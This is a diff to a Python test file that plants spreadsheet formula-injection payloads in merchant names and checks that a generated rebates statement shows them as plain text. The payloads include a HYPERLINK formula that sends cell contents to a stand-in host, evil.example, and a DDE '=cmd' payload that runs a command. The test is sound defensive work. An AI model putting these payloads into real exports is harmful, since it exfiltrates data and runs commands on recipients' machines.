@@ -21,6 +21,7 @@ def test_the_reference_agrees_on_cases_the_generator_never_makes(tiny_raw, spark
     week-old click is inside the data."""
     root = copy_root(tiny_raw, tmp_path / "root")
     make_harder(root)
+    hostile = _hostile_merchant_names(root)
     last = FIRST + dt.timedelta(days=TINY_DAYS - 1)
     night(root, FIRST, last)
 
@@ -35,6 +36,44 @@ def test_the_reference_agrees_on_cases_the_generator_never_makes(tiny_raw, spark
     quarantined = query(wh, "select coalesce(event_id, order_id), reason from read_parquet("
                             f"'{root}/quarantine/*/*/*.parquet', union_by_name = true) where event_id like 'H%'")
     assert sorted(quarantined) == [("HI-fixed", "bad_enum"), ("HS-group", "bad_enum")]  # their other copies: accepted
+    _statement_shows_hostile_names_as_text(root, hostile)
+
+
+def _hostile_merchant_names(root) -> dict[str, str]:
+    """Merchant names a spreadsheet would run, in every raw snapshot (issue 17)."""
+    import pyarrow as pa
+    import pyarrow.compute as pc
+    import pyarrow.parquet as pq
+
+    names = {}
+    for f in sorted((root / "raw" / "merchants").glob("dt=*/*.parquet")):
+        table = pq.read_table(f)
+        ids = table["merchant_id"].to_pylist()
+        names = names or {ids[0]: '=HYPERLINK("http://evil.example/?x="&A1,"click")', ids[1]: "=cmd|' /C calc'!A0",
+                          ids[2]: "@SUM(1+1)", ids[3]: "+1-1"}
+        new = pc.if_else(pc.is_in(table["merchant_id"], pa.array(list(names))),
+                         pa.array([names.get(i, "") for i in ids], pa.string()), table["merchant_name"])
+        pq.write_table(table.set_column(table.schema.get_field_index("merchant_name"), "merchant_name", new), f)
+    return names
+
+
+def _statement_shows_hostile_names_as_text(root, names: dict[str, str]) -> None:
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    from fullsite.layout import Layout
+    from orchestration.reports import rebates_statement
+
+    out, _ = rebates_statement(Layout(root), dt.date(2024, 7, 1), root / "statement")
+    with zipfile.ZipFile(out / "rebates-2024-07.xlsx") as z:
+        assert not any("<f>" in z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
+    shown = {r[0].value: r[1].value for r in load_workbook(out / "rebates-2024-07.xlsx").active.iter_rows(min_row=2)}
+    listed = {m: n for m, n in names.items() if m in shown}
+    assert listed and all(shown[m] == n for m, n in listed.items())  # as written, as text
+    text = (out / "rebates-2024-07.csv").read_text()
+    for merchant, name in listed.items():
+        assert f"{merchant},\"'{name.replace(chr(34), chr(34) * 2)}\"" in text or f"{merchant},'{name}" in text
 
 
 def test_the_reference_covers_every_published_table():
